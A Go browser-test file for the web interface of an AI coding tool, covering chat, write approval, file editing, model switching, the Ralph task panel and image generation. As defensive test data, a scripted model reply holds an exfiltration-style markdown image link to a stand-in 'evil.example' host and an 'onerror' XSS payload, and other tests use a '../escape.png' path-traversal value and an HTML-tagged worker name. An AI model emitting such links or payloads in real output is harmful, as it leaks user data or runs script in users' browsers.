package web

import (
	"bytes"
	"context"
	"image"
	"image/color"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/zelvior/aidex/internal/llm/llmtest"
	"github.com/zelvior/aidex/internal/ralph"
)

// findChromium returns the path of a Chromium or Chrome binary, or "".
func findChromium() string {
	if p := os.Getenv("AIDEX_CHROMIUM"); p != "" {
		return p
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable", "chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	return ""
}

// browser starts a headless Chromium for the test, or skips it when none
// is installed (fails under CI, whose .ci/run installs it).
func browser(t *testing.T) context.Context {
	t.Helper()
	bin := findChromium()
	if bin == "" && os.Getenv("CI") != "" {
		t.Fatal("no chromium found, and CI is set: .ci/run installs Debian's chromium")
	}
	if bin == "" {
		t.Skip("browser tests skipped: no chromium found (install Debian's chromium: apt-get install chromium; .ci/run does)")
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(bin),
		chromedp.Flag("disable-gpu", true),
		chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true),
		chromedp.Flag("no-first-run", true),
		chromedp.WindowSize(1280, 820),
		chromedp.UserDataDir(t.TempDir()),
	)
	if runtime.GOOS == "linux" {
		opts = append(opts, chromedp.NoSandbox) // CI runs as root
	}
	actx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	ctx, cancelCtx := chromedp.NewContext(actx)
	ctx, cancelTimeout := context.WithTimeout(ctx, 90*time.Second)
	t.Cleanup(func() {
		cancelTimeout()
		cancelCtx()
		cancelAlloc()
	})
	if err := chromedp.Do(ctx); err != nil { // start the browser now
		t.Fatalf("start %s: %v", bin, err)
	}
	return ctx
}

// waitJS polls a JavaScript expression until it is truthy (10 s).
func waitJS(t *testing.T, ctx context.Context, what, expr string) {
	t.Helper()
	if _, err := chromedp.Run(ctx, chromedp.Poll[bool](expr, chromedp.WithPollingTimeout(15*time.Second))); err != nil {
		page, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('#errors').innerText + ' | ' + document.body.innerText.slice(0, 1500)`))
		t.Fatalf("waiting for %s (%s): %v\npage: %s", what, expr, err, page)
	}
}

func do(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		t.Fatalf("%s: %v", what, err)
	}
}

// screenshot saves the page as PNG into $AIDEX_WEB_SCREENSHOTS when set.
func screenshot(t *testing.T, ctx context.Context, name string) {
	dir := os.Getenv("AIDEX_WEB_SCREENSHOTS")
	if dir == "" {
		return
	}
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Errorf("screenshot %s: %v", name, err)
		return
	}
	if err := os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644); err != nil {
		t.Error(err)
	}
}

// TestBrowser drives the page in headless Chromium: open the tokenized
// URL, chat with a scripted model and see the streamed answer, approve a
// write from its button, open and save a file in the Files panel (bytes
// unchanged), switch the model, and visit every panel.
func TestBrowser(t *testing.T) {
	ctx := browser(t)
	model := llmtest.NewScript(t,
		llmtest.Turn{Text: "Hello from the **scripted** model.\n\n```go\nfunc main() {}\n```\n\n![x](https://evil.example/leak?d=1) <img src=x onerror=alert(1)>"},
		llmtest.Turn{Calls: []llmtest.Call{{Name: "write_file", Args: `{"path":"made.txt","content":"made by the model\n"}`}}},
		llmtest.Turn{Text: "I wrote made.txt."})
	e := newEnv(t, model, "")
	crlf := "first line\r\nsecond line\r\n"
	e.write("edit.txt", crlf)
	e.write("src/main.go", "package main\n\nfunc main() {}\n")

	do(t, ctx, "open the tokenized URL", chromedp.Navigate(e.ts.URL+"/?token="+testToken))
	waitJS(t, ctx, "the page to load", `document.body.dataset.ready === '1' && document.querySelector('#status-model').textContent === 'fake/m1'`)
	if u, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href`)); strings.Contains(u, "token") {
		t.Errorf("the token stayed in the address bar: %s", u)
	}
	screenshot(t, ctx, "chat-empty")
	browseChat(t, ctx)
	browseApproval(t, ctx, e)
	browseFiles(t, ctx, e, crlf)
	browseModels(t, ctx, e)
	browseOtherPanels(t, ctx)
	checkNoPageErrors(t, ctx)
}

// browseChat sends a message: the streamed answer appears, rendered as
// Markdown, with no image loaded and no HTML injected.
func browseChat(t *testing.T, ctx context.Context) {
	do(t, ctx, "send a message", chromedp.SendKeys(chromedp.CSS("#chat-input"), "say hello"), chromedp.Click(chromedp.CSS("#send")))
	waitJS(t, ctx, "the streamed answer", `[...document.querySelectorAll('.msg.assistant')].some(m => m.textContent.includes('Hello from the scripted model.') && m.querySelector('strong'))`)
	waitJS(t, ctx, "the run to end", `!document.body.classList.contains('running')`)
	// The last delta renders on the next animation frame: wait for it.
	waitJS(t, ctx, "the code block highlighted", `document.querySelectorAll('.msg.assistant .tok-keyword').length > 0 && document.querySelector('.msg.assistant').textContent.includes('onerror')`)
	if n, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('.msg.assistant img, .msg.assistant script').length`)); n != 0 {
		t.Errorf("model output created %d img/script elements", n)
	}
}

// browseApproval asks for a write and approves it from its button.
func browseApproval(t *testing.T, ctx context.Context, e *env) {
	do(t, ctx, "ask for a write", chromedp.SendKeys(chromedp.CSS("#chat-input"), "write a file"), chromedp.Click(chromedp.CSS("#send")))
	waitJS(t, ctx, "the approval buttons", `document.querySelector('.approval button[data-decision="once"]') !== null`)
	screenshot(t, ctx, "chat-approval")
	do(t, ctx, "approve", chromedp.Click(chromedp.CSS(`.approval button[data-decision="once"]`)))
	waitJS(t, ctx, "the final answer", `document.querySelector('#messages').textContent.includes('I wrote made.txt.') && !document.body.classList.contains('running')`)
	if got := e.read("made.txt"); got != "made by the model\n" {
		t.Errorf("made.txt = %q", got)
	}
	waitJS(t, ctx, "the tool card marked done", `document.querySelector('.tool-card.ok .diff-add') !== null`)
	screenshot(t, ctx, "chat")
}

// browseFiles opens edit.txt (crlf, its CRLF content) in the Files panel,
// saves it unchanged (bytes identical), then edits and saves it (CRLF
// kept), and opens a directory.
func browseFiles(t *testing.T, ctx context.Context, e *env, crlf string) {
	do(t, ctx, "open Files", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="files"]`)))
	waitJS(t, ctx, "the tree", `document.querySelector('#tree li.file[data-path="edit.txt"] .label') !== null`)
	do(t, ctx, "open edit.txt", chromedp.Click(chromedp.CSS(`#tree li.file[data-path="edit.txt"] .label`)))
	waitJS(t, ctx, "the editor", `document.querySelector('#editor').value.startsWith('first line') && !document.querySelector('#save-file').disabled`)
	do(t, ctx, "save unchanged", chromedp.Click(chromedp.CSS("#save-file")))
	waitJS(t, ctx, "the save", `document.querySelector('#editor-state').textContent.includes('saved')`)
	if got := e.read("edit.txt"); got != crlf {
		t.Errorf("after an unchanged save: %q, want %q", got, crlf)
	}
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { const ed = document.querySelector('#editor'); ed.value += 'third line\n'; ed.dispatchEvent(new Event('input')); return true; })()`)); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "save edited", chromedp.Click(chromedp.CSS("#save-file")))
	waitJS(t, ctx, "the second save", `document.querySelector('#editor-state').textContent.includes('saved')`)
	if got := e.read("edit.txt"); got != crlf+"third line\r\n" {
		t.Errorf("after an edit: %q (CRLF must be kept)", got)
	}
	do(t, ctx, "open src", chromedp.Click(chromedp.CSS(`#tree li.dir[data-path="src"] .label`)))
	waitJS(t, ctx, "src/main.go", `document.querySelector('#tree li.file[data-path="src/main.go"]') !== null`)
	screenshot(t, ctx, "files")
}

// browseModels switches to m2 in the Models panel.
func browseModels(t *testing.T, ctx context.Context, e *env) {
	do(t, ctx, "open Models", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="models"]`)))
	waitJS(t, ctx, "the model list", `document.querySelector('tr.model-row[data-id="m2"] button.use') !== null`)
	screenshot(t, ctx, "models")
	do(t, ctx, "switch model", chromedp.Click(chromedp.CSS(`tr.model-row[data-id="m2"] button.use`)))
	waitJS(t, ctx, "the new model", `document.querySelector('#status-model').textContent === 'fake/m2'`)
	if m := e.srv.Runtime().Model; m != "m2" {
		t.Errorf("server model = %s", m)
	}
}

// browseOtherPanels visits Ralph (an empty list opens the add form) and
// Settings, switches the theme and goes back to Chat.
func browseOtherPanels(t *testing.T, ctx context.Context) {
	do(t, ctx, "open Ralph", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="ralph"]`)))
	waitJS(t, ctx, "the empty Ralph panel", `document.querySelector('#ralph-list').textContent.includes('No tasks yet') && !document.querySelector('#ralph-add').hidden`)
	screenshot(t, ctx, "ralph-empty")
	do(t, ctx, "open Settings", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="settings"]`)))
	waitJS(t, ctx, "the providers", `document.querySelectorAll('.provider-card').length > 5 && document.querySelectorAll('#config-list tr').length > 5`)
	screenshot(t, ctx, "settings")
	theme, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.documentElement.dataset.theme`))
	other := map[string]string{"dark": "light", "light": "dark"}[theme]
	do(t, ctx, "switch theme", chromedp.Click(chromedp.CSS("#theme-toggle")))
	waitJS(t, ctx, "the other theme", `document.documentElement.dataset.theme === '`+other+`'`)
	screenshot(t, ctx, "settings-"+other)
	do(t, ctx, "back to Chat", chromedp.Click(chromedp.CSS(`.tabs button[data-panel="chat"]`)))
	waitJS(t, ctx, "the chat", `document.querySelector('#panel-chat').classList.contains('active')`)
	screenshot(t, ctx, "chat-"+other)
}

// checkNoPageErrors fails the test when the page shows errors.
func checkNoPageErrors(t *testing.T, ctx context.Context) {
	t.Helper()
	if errs, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector('#errors').innerText`)); strings.TrimSpace(errs) != "" {
		t.Errorf("the page shows errors: %s", errs)
	}
}

// TestBrowserShowsErrors: an API failure is shown in the page.
func TestBrowserShowsErrors(t *testing.T) {
	ctx := browser(t)
	e := newEnv(t, nil, "")
	// Without the token the page loads but every call fails: the page must say so.
	do(t, ctx, "open without token", chromedp.Navigate(e.ts.URL+"/"))
	waitJS(t, ctx, "the error", `document.querySelector('#errors').textContent.includes('Not signed in')`)
}

// TestBrowserLoginCode opens the URL `aidex web --open` hands the
// browser: the page exchanges the one-time code for the token cookie,
// drops it from the address bar and works; a second tab with the same
// link is told the link was used.
func TestBrowserLoginCode(t *testing.T) {
	ctx := browser(t)
	e := newEnv(t, nil, "")
	code, err := e.srv.NewLoginCode()
	if err != nil {
		t.Fatal(err)
	}
	link := LoginURL("127.0.0.1", e.ts.Listener.Addr(), code)
	do(t, ctx, "open the login URL", chromedp.Navigate(link))
	waitJS(t, ctx, "the signed-in page", `document.body.dataset.ready === '1' && document.querySelector('#status-model').textContent === 'fake/m1'`)
	if u, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href`)); strings.Contains(u, "code") {
		t.Errorf("the code stayed in the address bar: %s", u)
	}
	checkNoPageErrors(t, ctx)
	other, cancel := chromedp.NewContext(ctx) // a new tab, same cookies
	defer cancel()
	do(t, other, "open the used link", chromedp.Navigate(link))
	waitJS(t, other, "the used-link error", `document.querySelector('#errors').textContent.includes('already used or has expired')`)
}

// ralphFixture is a task list with finished tasks of each kind, for the
// Ralph panel's test and screenshots.
const ralphFixture = `{"tasks": [
 {"id": "T-001", "title": "Fix the flaky retry test", "priority": "P0", "task_type": "task", "status": "failed", "attempts": 2,
  "description": "TestRetry fails one run in ten on CI.", "acceptance_criteria": ["go test -count=50 ./internal/llm passes"],
  "result": "verification ` + "`go test ./...`" + ` still failed after 2 attempts: exit code 1"},
 {"id": "US-001", "title": "As a user I can export a session as Markdown", "priority": "P1", "task_type": "story", "status": "done", "attempts": 1,
  "acceptance_criteria": ["aidex sessions export ID --format md", "code blocks keep their language"], "result": "Added **export --format md** with tests."},
 {"id": "T-002", "title": "Write the CHANGELOG entry", "priority": "P3", "task_type": "task", "status": "skipped", "attempts": 1,
  "result": "Nothing to do: the entry exists."},
 {"id": "T-003", "title": "Document the web API", "priority": "P2", "task_type": "task", "status": "pending", "depends_on": ["T-001"]}
]}`

// TestBrowserRalph drives the Ralph panel: add a task from the form, run
// the loop (a scripted model finishes the task through complete_task),
// watch it turn done with its result, and open its transcript.
func TestBrowserRalph(t *testing.T) {
	ctx := browser(t)
	model := llmtest.NewScript(t,
		llmtest.Turn{Text: "I will add the greeting to **hello.txt**.", Calls: []llmtest.Call{{Name: "write_file", Args: `{"path":"hello.txt","content":"hello\n"}`}}},
		llmtest.Turn{Calls: []llmtest.Call{{Name: "complete_task", Args: `{"status":"done","summary":"Added hello.txt with the greeting."}`}}},
		llmtest.Turn{Text: "Done."},
		llmtest.Turn{Text: "Reading the handlers to document them…", Hang: true})
	e := newEnv(t, model, "permission_mode = \"auto-edit\"\n")
	e.write("ralph_tasks.json", ralphFixture)

	do(t, ctx, "open the Ralph panel", chromedp.Navigate(e.ts.URL+"/?token="+testToken+"#ralph"))
	waitJS(t, ctx, "the task list", `document.querySelectorAll('#ralph-list li.task').length === 4`)
	do(t, ctx, "select the failed task", chromedp.Click(chromedp.CSS(`#ralph-list li.task[data-id="T-001"]`)))
	waitJS(t, ctx, "its detail", `document.querySelector('#ralph-detail').textContent.includes('TestRetry fails') && document.querySelector('#ralph-detail .criteria li') !== null`)
	screenshot(t, ctx, "ralph-detail")
	browseRalphAdd(t, ctx)
	browseRalphRun(t, ctx, e)

	// A second run, stopped from the page: "Stop" asks for a stop after the
	// task, "Stop now" interrupts it and the task is pending again.
	e.addTask(map[string]any{"title": "Document the Ralph endpoints", "priority": "P2"})
	do(t, ctx, "switch theme", chromedp.Click(chromedp.CSS("#theme-toggle")))
	do(t, ctx, "run again", chromedp.Click(chromedp.CSS("#ralph-refresh")))
	waitJS(t, ctx, "the new task listed", `document.querySelector('#ralph-list li.task[data-id="T-005"]') !== null`)
	do(t, ctx, "run", chromedp.Click(chromedp.CSS("#ralph-run")))
	waitJS(t, ctx, "the live output", `document.querySelector('#ralph-list li.task[data-id="T-005"]').dataset.status === 'in_progress' && document.querySelector('#ralph-detail .live-log').textContent.includes('Reading the handlers')`)
	screenshot(t, ctx, "ralph-running")
	browseRalphStopWithStaleReload(t, ctx)
	screenshot(t, ctx, "ralph-stopped")
	checkNoPageErrors(t, ctx)
	if v := e.ralph(); v.Tasks[4].Status != "done" || v.Tasks[4].Priority != "P1" || len(v.Tasks[4].Criteria) != 2 || v.Tasks[3].Status != "pending" || v.Tasks[5].Status != "pending" {
		t.Errorf("task list after the run: %+v", v.Tasks)
	}
}

// browseRalphAdd adds a task (T-004, P1, two criteria) from the form.
func browseRalphAdd(t *testing.T, ctx context.Context) {
	do(t, ctx, "open the form", chromedp.Click(chromedp.CSS("#ralph-new")))
	do(t, ctx, "fill the form",
		chromedp.SendKeys(chromedp.CSS("#ralph-title"), "Add a greeting file"),
		chromedp.SendKeys(chromedp.CSS("#ralph-description"), "Create hello.txt saying hello."),
		chromedp.SendKeys(chromedp.CSS("#ralph-criteria"), "hello.txt exists\nit says hello"),
		chromedp.SetValue(chromedp.CSS("#ralph-priority"), "P1"),
		chromedp.Click(chromedp.CSS(`#ralph-add button[type="submit"]`)))
	waitJS(t, ctx, "the new task", `(() => { const li = document.querySelector('#ralph-list li.task[data-id="T-004"]'); return li && li.dataset.status === 'pending' && li.classList.contains('active'); })()`)
	waitJS(t, ctx, "its detail", `document.querySelectorAll('#ralph-detail .criteria li').length === 2`)
}

// browseRalphRun runs one task (the new P1 one goes before the P2 that
// waits on a failed task), sees it done with its result and live log, and
// opens its transcript from the session link.
func browseRalphRun(t *testing.T, ctx context.Context, e *env) {
	do(t, ctx, "run", chromedp.SetValue(chromedp.CSS("#ralph-max"), "1"), chromedp.Click(chromedp.CSS("#ralph-run")))
	waitJS(t, ctx, "the task done", `document.querySelector('#ralph-list li.task[data-id="T-004"]').dataset.status === 'done'`)
	waitJS(t, ctx, "the run over", `!document.querySelector('#ralph-run').disabled && document.querySelector('#ralph-state').textContent.includes('1 done')`)
	waitJS(t, ctx, "the result and the live log", `document.querySelector('#ralph-detail .result').textContent.includes('Added hello.txt') && document.querySelector('#ralph-detail .live-log').textContent.includes('write_file')`)
	if got := e.read("hello.txt"); got != "hello\n" {
		t.Errorf("hello.txt = %q", got)
	}
	screenshot(t, ctx, "ralph")

	// The session link opens the transcript.
	do(t, ctx, "open the transcript", chromedp.Click(chromedp.CSS("#ralph-detail button.open-transcript")))
	waitJS(t, ctx, "the transcript", `document.querySelector('#ralph-transcript .transcript') !== null && document.querySelector('#ralph-transcript').textContent.includes('I will add the greeting')`)
	screenshot(t, ctx, "ralph-transcript")
}

// browseRalphStopWithStaleReload stops the running T-005 with "Stop" then
// "Stop now" while a reload's answer (the run going) is held back until
// the run ended: the page must not follow that ended run.
func browseRalphStopWithStaleReload(t *testing.T, ctx context.Context) {
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](holdRalphJS)); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "reload while running", chromedp.Click(chromedp.CSS("#ralph-refresh")))
	waitJS(t, ctx, "the reload's answer held", `typeof window.__releaseRalph === 'function' && window.__heldRalph.running && window.__heldRalph.live`)
	do(t, ctx, "stop", chromedp.Click(chromedp.CSS("#ralph-stop")))
	waitJS(t, ctx, "stop now offered", `document.querySelector('#ralph-stop').textContent.includes('Stop now')`)
	do(t, ctx, "stop now", chromedp.Click(chromedp.CSS("#ralph-stop")))
	const stopped = `document.querySelector('#ralph-list li.task[data-id="T-005"]').dataset.status === 'pending' && !document.querySelector('#ralph-run').disabled && document.querySelector('#ralph-state').textContent.includes('interrupted')`
	waitJS(t, ctx, "the task pending again", stopped)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`window.__releaseRalph(), setTimeout(() => { window.__settledRalph = true; }, 0), true`)); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the held answer handled", `window.__settledRalph === true`)
	if n, _ := chromedp.Run(ctx, chromedp.Evaluate[int](`window.__ralphEventsFetches`)); n != 0 {
		t.Errorf("the page followed the ended run from a stale answer (%d GET /api/ralph/events)", n)
	}
	waitJS(t, ctx, "the page still showing the stopped run", stopped)
}

// holdRalphJS wraps the page's fetch: the next GET /api/ralph answer is
// read, kept in window.__heldRalph and handed to the page only when
// window.__releaseRalph() is called (its body then comes from memory, so
// the page handles it within microtasks); window.__ralphEventsFetches
// counts the page's GET /api/ralph/events requests from then on.
const holdRalphJS = `(() => {
  const orig = window.fetch;
  let hold = true;
  window.__ralphEventsFetches = 0;
  window.fetch = async (url, opts) => {
    const u = String(url);
    if (u.startsWith('/api/v1/ralph/events')) window.__ralphEventsFetches++;
    const res = await orig(url, opts);
    if (u === '/api/v1/ralph' && hold) {
      hold = false;
      const data = await res.json();
      window.__heldRalph = data;
      await new Promise((resolve) => { window.__releaseRalph = resolve; });
      res.json = () => Promise.resolve(data);
    }
    return res;
  };
  return true;
})()`

// TestBrowserImage generates an image from the Settings panel (a
// stand-in for Pollinations answers a real PNG), sees it shown and saved.
func TestBrowserImage(t *testing.T) {
	ctx := browser(t)
	p := newPollinations(t)
	var buf bytes.Buffer
	img := image.NewRGBA(image.Rect(0, 0, 96, 64))
	for x := range 96 {
		for y := range 64 {
			img.Set(x, y, color.RGBA{R: uint8(x * 2), G: 90, B: uint8(200 - y*2), A: 255})
		}
	}
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	p.body = buf.Bytes()
	e := newEnv(t, nil, "image_base_url = \""+p.URL+"\"\n")
	do(t, ctx, "open Settings", chromedp.Navigate(e.ts.URL+"/?token="+testToken+"#settings"))
	waitJS(t, ctx, "the image form", `document.querySelector('#image-provider').options.length > 1`)
	do(t, ctx, "generate",
		chromedp.SendKeys(chromedp.CSS("#image-prompt"), "a gradient"),
		chromedp.SendKeys(chromedp.CSS("#image-width"), "96"),
		chromedp.SendKeys(chromedp.CSS("#image-height"), "64"),
		chromedp.SendKeys(chromedp.CSS("#image-save"), "art/gradient.png"),
		chromedp.Click(chromedp.CSS(`#image-gen button[type="submit"]`)))
	waitJS(t, ctx, "the image shown", `(() => { const i = document.querySelector('#image-result img'); return i && i.complete && i.naturalWidth === 96; })()`)
	waitJS(t, ctx, "where it was saved", `document.querySelector('#image-result').textContent.includes('saved to art/gradient.png')`)
	if got, _ := os.ReadFile(filepath.Join(e.ws, "art", "gradient.png")); !bytes.Equal(got, p.body) {
		t.Error("the saved image differs from the service's bytes")
	}
	do(t, ctx, "scroll to it", chromedp.ScrollIntoView(chromedp.CSS("#image-result")))
	screenshot(t, ctx, "settings-image")
	// Choosing the together preset fills its OpenAI-compatible endpoint.
	do(t, ctx, "choose together", chromedp.SetValue(chromedp.CSS("#image-provider"), "together"))
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`document.querySelector('#image-provider').dispatchEvent(new Event('change'))`)); err != nil {
		t.Fatal(err)
	}
	waitJS(t, ctx, "the preset's base URL", `document.querySelector('#image-base-url').value === 'https://api.together.xyz/v1'`)
	// A refused path is shown in the page.
	do(t, ctx, "refused path", chromedp.SetValue(chromedp.CSS("#image-save"), "../escape.png"), chromedp.Click(chromedp.CSS(`#image-gen button[type="submit"]`)))
	waitJS(t, ctx, "the error", `document.querySelector('#errors').textContent.includes('save_as refused')`)
}

// A run with several workers (here: one claimed by the test, the way a
// coordinator in another process holds it) shows one row per worker.
func TestBrowserRalphWorkerRows(t *testing.T) {
	ctx := browser(t)
	e := newEnv(t, llmtest.NewScript(t), "")
	e.write("ralph_tasks.json", ralphFixture)
	run := ralph.NewService(ralph.Options{Workspace: e.ws})
	release, err := run.Claim()
	if err != nil {
		t.Fatal(err)
	}
	defer release()
	now := time.Now().UTC()
	if err := run.SetWorkers([]ralph.WorkerRow{{ID: "w1", Host: "box", Tasks: []string{"T-001"}, LastHeartbeat: now},
		{ID: "w2", Host: "box", Tasks: []string{}, Paused: true, LastHeartbeat: now},
		{ID: "<b>w3</b>", Host: "other", Tasks: []string{"T-002"}, LastHeartbeat: now}}); err != nil {
		t.Fatal(err)
	}
	do(t, ctx, "open the Ralph panel", chromedp.Navigate(e.ts.URL+"/?token="+testToken+"#ralph"))
	waitJS(t, ctx, "a row per worker", `document.querySelectorAll('#ralph-workers .worker-row').length === 3`)
	waitJS(t, ctx, "their tasks", `(() => { const r = [...document.querySelectorAll('#ralph-workers .worker-row')].map((e) => e.textContent);
		return r[0] === 'w1 @box · T-001' && r[1] === 'w2 @box · idle (paused)' && r[2] === '<b>w3</b> @other · T-002'; })()`)
	screenshot(t, ctx, "ralph-workers")
	checkNoPageErrors(t, ctx)
}
